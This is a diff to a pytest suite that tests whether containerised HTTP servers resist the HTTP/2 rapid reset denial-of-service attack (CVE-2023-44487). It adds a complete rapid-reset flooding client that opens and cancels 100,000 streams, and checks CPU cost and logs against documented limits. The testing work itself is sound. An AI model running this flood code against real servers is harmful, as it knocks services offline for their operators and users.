@@ -707,3 +707,101 @@ def test_an_absolute_form_target(probe_image, flavor, run_container):
         other_scheme = 200  # the scheme dropped with the host
     statuses, _ = exchange(container.address, b"GET ftp://evil.example/ HTTP/1.1\r\nHost: localhost\r\n\r\n")
     assert statuses == [other_scheme], statuses
+
+
+def http2_frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
+    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
+
+
+def answered(client: socket.socket, ping: bytes, received: bytearray) -> bool:
+    """Read what the server sends until it ACKs the ping; False when it ends the connection instead (GOAWAY,
+    or closed)."""
+    ack = http2_frame(0x6, 0x1, 0, ping)
+    frames, at = 0, 0
+    while ack not in received:
+        if not readable({client}, 5) or not (chunk := client.recv(65536)):
+            return False
+        received.extend(chunk)
+        while len(received) >= at + 9:
+            if received[at + 3] == 0x7:
+                return False
+            at += 9 + int.from_bytes(received[at : at + 3], "big")
+            frames += 1
+    return True
+
+
+def rapid_reset(address: tuple[str, int], streams: int, seconds: float, batch: int = 1000) -> tuple[int, int]:
+    """HTTP/2 rapid reset (CVE-2023-44487): open streams (GET /slow/?seconds=0&id=rr) and reset each at once, a
+    batch at a time, each batch followed by a PING whose ACK says the server has read it (so the kernel's buffers
+    hide nothing); a new connection whenever the server ends one. The streams written, and the connections."""
+    path, authority = b"/slow/?seconds=0&id=rr", b"localhost"
+    # HPACK (RFC 7541): GET, http indexed; :path and :authority literal, not indexed, so every block is the same.
+    block = b"\x82\x86\x04" + bytes([len(path)]) + path + b"\x01" + bytes([len(authority)]) + authority
+    written, connections, deadline = 0, 0, time.monotonic() + seconds
+    while written < streams and time.monotonic() < deadline:
+        connections += 1
+        with socket.create_connection(address, timeout=5) as client:
+            received = bytearray()
+            try:
+                client.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + http2_frame(0x4, 0, 0))
+                stream = 1
+                while written < streams and time.monotonic() < deadline and stream < 2**31 - 2 * batch:
+                    ping = stream.to_bytes(8, "big")
+                    frames = b"".join(
+                        http2_frame(0x1, 0x5, s, block) + http2_frame(0x3, 0, s, (8).to_bytes(4, "big"))  # CANCEL
+                        for s in range(stream, stream + 2 * batch, 2)
+                    )
+                    client.sendall(frames + http2_frame(0x6, 0, 0, ping))
+                    written += batch
+                    stream += 2 * batch
+                    if not answered(client, ping, received):
+                        break
+            except (BrokenPipeError, ConnectionResetError, TimeoutError):
+                pass
+    return written, connections
+
+
+def cpu_seconds(container) -> float:
+    """The CPU time the container's processes have used (user and system), from /proc."""
+    script = (
+        "import os\nticks = 0\nfor pid in filter(str.isdigit, os.listdir('/proc')):\n"
+        "    try:\n        fields = open(f'/proc/{pid}/stat').read().rpartition(')')[2].split()\n"
+        "    except OSError:\n        continue\n    ticks += int(fields[11]) + int(fields[12])\n"
+        "print(ticks / os.sysconf('SC_CLK_TCK'))\n"
+    )
+    return float(container.exec("python", "-c", script).stdout)
+
+
+H2C = "HTTP/2 without TLS (prior knowledge)"
+RAPID_RESET = "HTTP/2 rapid reset (streams opened and reset at once)"
+SPEAKS_HTTP2 = readme_claims.flavors(RAPID_RESET, lambda cell: not cell.startswith("no HTTP/2"))
+
+
+@pytest.mark.core
+@pytest.mark.parametrize("flavor", SPEAKS_HTTP2)
+@pytest.mark.parametrize("batch", [1000, 20], ids=["flood", "20 per read"])
+def test_http2_rapid_reset(probe_image, flavor, batch, run_container, figures):
+    """100,000 streams opened and reset at once, as a flood or 20 at a time: few or none start the app, the server
+    goes on serving without a traceback, and the CPU it costs is under 2 s, or what the flavor table says."""
+    env = {"WORKERS": "1"}
+    if readme_claims.cell(H2C, flavor).startswith("with `SERVER_ARGS='--http auto'`"):
+        env["SERVER_ARGS"] = "--http auto"
+    container = run_container(probe_image, env=env).wait_ready()
+    before = cpu_seconds(container)
+    written, connections = rapid_reset(container.address, 100_000, 60, batch)
+    assert container.get("/")[0] == 200  # served meanwhile, and every stream the app took is done
+    cpu = cpu_seconds(container) - before
+    logs = container.logs()
+    reached = logs.count("probe: started rr")
+    figures(flavor, f"HTTP/2 rapid reset, {batch} streams per read: streams / connections / reached the app / CPU s",
+            written=written, connections=connections, reached=reached, cpu=round(cpu, 2))  # fmt: skip
+    assert written == 100_000
+    said = readme_claims.cell(RAPID_RESET, flavor)
+    # Those that reach the app are the few whose reset came in a later read, or (granian, which hands the app
+    # every stream) those let through while fewer than 200 of the connection's ran.
+    share = 100 if "at most 200 at once reach the app" in said else 1000
+    assert reached <= written // share, f"{reached} reset streams started the app"
+    assert "Traceback" not in logs
+    said = re.search(r"(\d+(?:\.\d+)?) s of CPU per 100,000 sent 20 at a time", said)
+    bound = 1.5 * float(said[1]) if said and batch == 20 else 2.0
+    assert cpu < bound, f"{cpu:.2f} s of CPU for {written} reset streams"
